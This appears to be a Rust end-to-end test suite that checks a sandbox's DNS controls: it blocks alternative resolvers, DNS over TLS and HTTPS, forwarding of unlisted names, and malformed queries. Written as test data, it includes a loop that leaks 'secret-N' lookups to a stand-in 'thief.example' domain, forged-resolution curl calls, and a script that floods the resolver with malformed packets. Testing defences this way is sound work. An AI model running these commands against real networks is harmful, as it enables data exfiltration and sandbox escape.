//! Attempts to bypass the sandbox's DNS server: other servers, other ports, DNS in other protocols, and data in names.

use std::net::Ipv4Addr;

use e2e::internet::{AAAA, DnsAnswer, TCP, UDP};

use crate::guest::Guest;
use crate::shared_net;

const PUBLIC: [Ipv4Addr; 3] =
    [Ipv4Addr::new(8, 8, 8, 8), Ipv4Addr::new(1, 1, 1, 1), Ipv4Addr::new(9, 9, 9, 9)];

/// The exit code of `dig` depends on the transport; its output does not.
async fn assert_no_dns_answer(guest: &Guest<'_>, command: &str) {
    let result = guest.run(command).await;
    assert!(!result["stdout"].as_str().unwrap().contains("->>HEADER<<-"), "{command}: {result}");
}

/// A server that answers every name is reachable for the host, and must receive nothing.
#[tokio::test]
async fn other_dns_servers_are_not_reachable() {
    let net = shared_net().await;
    let listed = net.site("resolvers-listed");
    let own = net.internet.unused_address().unwrap();
    net.internet.dns_at(own, 53).unwrap();
    let strict = net.strict(&[&listed.name]).await;
    for address in [own, PUBLIC[2]] {
        for how in ["+notcp", "+tcp", "+notcp -p 5353", "+tcp -p 5353", "+tls"] {
            let command = format!("dig +time=2 +tries=1 {how} @{address} {}", listed.name);
            assert_no_dns_answer(&strict, &command).await;
        }
        assert_eq!(net.internet.packets().to(address), [], "{address}");
        strict
            .wait_for_refusal(
                &["port", "unknown-address", "not-allowed", "malformed", "no-name"],
                &address.to_string(),
            )
            .await;
    }
}

/// The address of a listed host does not serve DNS either.
#[tokio::test]
async fn a_dns_server_at_a_listed_address_is_not_reachable() {
    let net = shared_net().await;
    let listed = net.site("doubling");
    net.internet.dns_at(listed.address, 53).unwrap();
    net.internet.echo_at(listed.address, 853).unwrap();
    let guest = net.strict(&[&listed.name]).await;
    guest.output(&format!("curl -sS --max-time 20 http://{}/hello", listed.name)).await;
    for how in ["+notcp", "+tcp", "+tls"] {
        let command = format!("dig +time=2 +tries=1 {how} @{} {}", listed.address, listed.name);
        assert_no_dns_answer(&guest, &command).await;
    }
    guest.wait_for_refusal(&["port"], &listed.address.to_string()).await;
    for (protocol, port) in [(UDP, 53), (TCP, 53), (TCP, 853), (UDP, 853)] {
        assert_eq!(net.internet.packets().count(listed.address, protocol, port), 0, "{protocol} {port}");
    }
}

/// DNS over HTTPS is a website like any other: it passes if it is listed.
#[tokio::test]
async fn dns_over_https_needs_a_listed_name() {
    let net = shared_net().await;
    let listed = net.site("https-listed");
    for (name, address) in [("dns.google", PUBLIC[0]), ("cloudflare-dns.com", PUBLIC[1])] {
        net.internet.names().set(name, DnsAnswer::A(vec![address], 300));
    }
    let guest = net.strict(&[&listed.name, "*.google", "*.com"]).await;
    for url in [
        "https://dns.google/dns-query",
        "https://cloudflare-dns.com/dns-query",
        "https://1.1.1.1/dns-query",
        "https://8.8.8.8/dns-query",
        "--resolve dns.google:443:8.8.8.8 https://dns.google/dns-query",
    ] {
        guest.fails(&format!("curl -sS -k --max-time 10 {url}")).await;
    }
    guest.wait_for_refusal(&["not-allowed"], "dns.google").await;
    // The other sandbox's policy lists it by its exact name.
    let trusting = net.strict(&["dns.google"]).await;
    assert_eq!(trusting.output("curl -sS --max-time 10 https://dns.google/dns-query").await, "an answer");
}

#[tokio::test]
async fn unlisted_names_are_not_forwarded_upstream() {
    let net = shared_net().await;
    let listed = net.site("carrier");
    net.internet.names().set("*.thief.example", DnsAnswer::A(vec![listed.address], 0));
    let guest = net.strict(&[&listed.name, "*.below.web.example"]).await;
    let asks = "for n in $(seq 40); do dig +short +time=2 +tries=1 secret-$n.thief.example; dig +short +time=2 +tries=1 TXT s$n.thief.example; \
        dig +short +time=2 +tries=1 $n.carrier.web.example; done; curl -sS --max-time 3 http://curl.thief.example; true";
    assert_eq!(guest.output(asks).await, "");
    guest.wait_for_refusal(&["not-allowed"], "secret-1.thief.example").await;
    assert_eq!(net.internet.names().queries("thief.example"), []);
    assert_eq!(net.internet.names().queries("1.carrier.web.example"), []);
    // A forged name is not looked up either.
    guest
        .fails(&format!(
            "curl -sS --max-time 5 -k --resolve x.thief.example:443:{} https://x.thief.example",
            listed.address
        ))
        .await;
    assert_eq!(net.internet.names().queries("thief.example"), []);
}

/// Invalid and oversized questions do no harm.
#[tokio::test]
async fn invalid_queries_do_no_harm() {
    let net = shared_net().await;
    let listed = net.site("questions");
    let guest = net.strict(&[&listed.name]).await;
    let program = r#"
server = open("/etc/resolv.conf").read().split()[1]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect((server, 53)); u.settimeout(0.2)
heads = [b"\x12\x34\x01\x00\x00\x01" + bytes(6), b"\x12\x34\x81\x80\x00\x01" + bytes(6), b"\x12\x34\x01\x00\xff\xff" * 2]
for head in heads:
    for body in [b"", b"\xc0\x0c\x00\x01\x00\x01", b"\x3f" + b"a" * 10, (b"\x3fx" + b"a" * 62) * 8, b"\xff" * 3000, os.urandom(300), b"\x00\x00\xff\x00\x01"]:
        u.send(head + body)
        t = tcp(server, 53); t.send(struct.pack("!H", len(head + body)) + head + body); t.close()
held = [tcp(server, 53) for n in range(60)]
print("asked")
"#;
    assert_eq!(guest.python(program).await, "asked\n");
    assert_eq!(
        guest.output(&format!("dig +short +time=5 +tries=1 {}", listed.name)).await,
        format!("{}\n", listed.address)
    );
}

/// If the upstream server does not answer, the client soon gets an error.
#[tokio::test]
async fn an_upstream_that_does_not_answer_gives_servfail() {
    let net = shared_net().await;
    net.internet.names().set("dead.web.example", DnsAnswer::NoResponse);
    net.internet.names().set("ill.web.example", DnsAnswer::Failure);
    let guest = net.strict(&["dead.web.example", "ill.web.example"]).await;
    for name in ["dead.web.example", "ill.web.example"] {
        let begin = std::time::Instant::now();
        assert!(guest.output(&format!("dig +time=5 +tries=1 {name}")).await.contains("SERVFAIL"));
        assert!(begin.elapsed().as_secs_f64() < 4.0, "{name} took {:?}", begin.elapsed());
    }
}

/// Answers for IPv6 addresses and service records contain no addresses.
#[tokio::test]
async fn ipv6_and_service_answers_contain_no_addresses() {
    let net = shared_net().await;
    let six = "six.web.example";
    net.internet.names().set(six, DnsAnswer::Aaaa(vec!["2001:db8:ffff::6".parse().unwrap()], 60));
    let guest = net.open().await;
    for kind in ["AAAA", "HTTPS", "SVCB", "ANY"] {
        let result = guest.output(&format!("dig +time=3 +tries=1 {kind} {six}")).await;
        assert!(!result.contains("2001:db8"), "{result}");
    }
    guest.fails(&format!("curl -sS --max-time 5 http://{six}/hello")).await;
    guest.fails("curl -sS --max-time 5 'http://[2001:db8:ffff::6]/hello'").await;
    assert_eq!(net.internet.names().queries(six).iter().filter(|(_, kind)| *kind == AAAA).count(), 0);
    assert_eq!(net.internet.packets().ipv6(), []);
}
